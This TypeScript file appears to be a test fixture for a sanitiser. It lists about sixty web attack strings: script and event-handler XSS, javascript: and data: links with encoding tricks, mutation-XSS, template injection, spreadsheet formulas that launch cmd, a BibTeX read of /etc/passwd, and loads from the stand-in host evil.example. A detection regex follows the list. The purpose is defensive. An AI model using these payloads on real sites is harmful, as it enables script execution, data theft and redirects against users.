/** A text by which content might try to run, load or change something. */
export interface Payload {
  what: string;
  text: string;
  /** What of it a reader sees when it stands in a body as text; undefined where it stops the build. */
  seen?: string;
}

const RUN = 'alert(1)';

/** The payloads, each one line; in a body they are Markdown, in a field plain words. */
export const PAYLOADS: readonly Payload[] = [
  { what: 'a script', text: `<script>${RUN}</script>` },
  { what: 'a script in capitals, from elsewhere', text: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>' },
  { what: 'a script in a script', text: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { what: 'the end of a script, and another', text: `</script><script>${RUN}</script>` },
  { what: 'a module', text: '<script type=module>import "https://evil.example/x.js"</script>' },
  { what: 'the beginning of a script’s comment', text: '<!--<script>' },
  { what: 'a handler on a picture', text: `<img src=x onerror=${RUN}>` },
  { what: 'a handler on a link', text: `<a href="#" onclick="${RUN}">here</a>` },
  { what: 'a handler that opens by itself', text: `<details open ontoggle=${RUN}>` },
  { what: 'the end of a value, and a handler', text: `" onmouseover="${RUN}" x="`, seen: `" onmouseover="${RUN}" x="` },
  { what: 'the same with the other quote', text: `' autofocus onfocus='${RUN}'`, seen: `' autofocus onfocus='${RUN}'` },
  { what: 'the end of a value and of its element', text: `"><svg/onload=${RUN}>`, seen: `"><svg/onload=${RUN}>` },
  { what: 'a body', text: `<body onload=${RUN}>` },
  { what: 'a film', text: `<video><source onerror=${RUN}></video>` },
  { what: 'a drawing', text: `<svg onload=${RUN}>` },
  { what: 'a script in a drawing', text: `<svg><script>${RUN}</script></svg>` },
  { what: 'a link in a drawing', text: `<svg><a xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>` },
  { what: 'an animation', text: `<svg><animate onbegin=${RUN} attributeName=x dur=1s>` },
  { what: 'the end of a drawing', text: `</text></svg><script>${RUN}</script>` },
  { what: 'a page in a drawing', text: `<svg><foreignObject><iframe srcdoc="<b>"></iframe></foreignObject></svg>` },
  { what: 'a link that runs', text: `[here](javascript:${RUN})` },
  { what: 'the same in mixed case', text: `[here](JaVaScRiPt:${RUN})` },
  { what: 'the same with an entity', text: `[here](&#106;avascript:${RUN})` },
  { what: 'the same with a tab in it', text: `[here](java&Tab;script:${RUN})` },
  { what: 'the same with a sign before it', text: `[here](&#1;javascript:${RUN})` },
  {
    what: 'a link to a page in its address',
    text: '[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  { what: 'a link of another language', text: '[here](vbscript:msgbox(1))' },
  { what: 'a bare link that runs', text: `<javascript:${RUN}>` },
  { what: 'a link to a file', text: '[here](file:///etc/passwd)' },
  { what: 'a link to another site that looks like ours', text: '[here](//evil.example/)' },
  { what: 'the same with other strokes', text: '[here](/\\evil.example/)' },
  { what: 'a picture from elsewhere', text: '![A](https://evil.example/pixel.png)' },
  { what: 'a picture that runs', text: `![A](javascript:${RUN})` },
  { what: 'a style sheet', text: '<style>*{display:none}</style>' },
  { what: 'a style', text: `<p style="background:url(javascript:${RUN})">A</p>` },
  {
    what: 'a style sheet from elsewhere',
    text: '<link rel=stylesheet href=//evil.example/x.css>',
    seen: '<link rel=stylesheet href=//evil.example/x.css>',
  },
  { what: 'a declaration', text: 'red;background:url(//evil.example/x)', seen: 'red;background:url(//evil.example/x)' },
  { what: 'a script in entities', text: `&lt;script&gt;${RUN}&lt;/script&gt;`, seen: `<script>${RUN}</script>` },
  {
    what: 'a picture in numbered entities',
    text: `&#60;img src=x onerror=${RUN}&#62;`,
    seen: `<img src=x onerror=${RUN}>`,
  },
  { what: 'a script in entities of entities', text: `&amp;lt;script&amp;gt;${RUN}`, seen: `&lt;script&gt;${RUN}` },
  { what: 'a script with strokes before it', text: `\\<script>${RUN}\\</script>`, seen: `<script>${RUN}</script>` },
  { what: 'a script in code', text: `\`<script>${RUN}</script>\``, seen: `<script>${RUN}</script>` },
  { what: 'a script of wide letters', text: `＜script＞${RUN}＜/script＞`, seen: `＜script＞${RUN}＜/script＞` },
  { what: 'a comment', text: `<!-- --><script>${RUN}</script>` },
  { what: 'a comment that ends at once', text: `<!--><img src=x onerror=${RUN}>-->` },
  { what: 'a part of another kind', text: `<![CDATA[<script>${RUN}</script>]]>` },
  { what: 'the end of such a part', text: `]]><script>${RUN}</script>` },
  { what: 'an instruction', text: '<?xml-stylesheet href="//evil.example/x.xsl"?>' },
  { what: 'a frame', text: '<iframe src=https://evil.example/></iframe>' },
  { what: 'another address for the page', text: '<meta http-equiv=refresh content="0;url=https://evil.example/">' },
  { what: 'another base', text: '<base href=https://evil.example/>', seen: '<base href=https://evil.example/>' },
  { what: 'a form', text: '<form action=https://evil.example/><input name=a></form>' },
  { what: 'what changes when it is read twice', text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { what: 'the same in a formula', text: `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>` },
  { what: 'a template', text: `<template><script>${RUN}</script></template>` },
  { what: 'an island', text: '<astro-island client="touch" component-url="https://evil.example/x.js"></astro-island>' },
  { what: 'an object', text: '<object data=//evil.example/x></object>' },
  {
    what: 'words of a template',
    text: `{{constructor.constructor('${RUN}')()}} \${${RUN}}`,
    seen: `{{constructor.constructor('${RUN}')()}} \${${RUN}}`,
  },
  {
    what: 'a formula of a spreadsheet',
    text: '=HYPERLINK("//evil.example/","here")',
    seen: '=HYPERLINK("//evil.example/","here")',
  },
  { what: 'another that begins a program', text: "@SUM(1+1)*cmd|' /C calc'!A0", seen: "@SUM(1+1)*cmd|' /C calc'!A0" },
  {
    what: 'the end of a field of BibTeX',
    text: '}, url = {https://evil.example/} \\input{/etc/passwd} %',
    seen: '}, url = {https://evil.example/} \\input{/etc/passwd} %',
  },
];

/** What would run or load if a payload did. A text may say it; an element, an attribute and an address may not. */
export const EVIL = /evil\.example|alert\(1\)|msgbox/;
